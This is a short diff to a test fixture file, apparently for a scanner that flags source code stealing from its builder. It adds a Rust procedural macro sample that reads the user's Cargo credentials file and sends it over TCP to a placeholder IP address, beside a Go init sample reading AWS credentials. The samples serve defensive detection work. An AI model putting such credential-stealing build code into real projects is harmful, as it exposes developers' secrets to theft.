@@ -26,6 +26,10 @@ export const BUILDERS: FactCases = {
   source_robs_its_builder: {
     hits: {
       'a build that posts a key': build(`fn main() { ${READS} ${SENDS} }`),
+      'a macro of a compiler that sends one': scripted(
+        'source',
+        '#[proc_macro_derive(Yaml)]\npub fn yaml(i: TokenStream) -> TokenStream {\n  let k = std::fs::read_to_string(home + "/.cargo/credentials"); let mut s = std::net::TcpStream::connect("203.0.113.7:443"); s.write_all(k)\n}',
+      ),
       'an import that posts one': go(
         'func init() {',
         '  k, _ := os.ReadFile(home + "/.aws/credentials")',
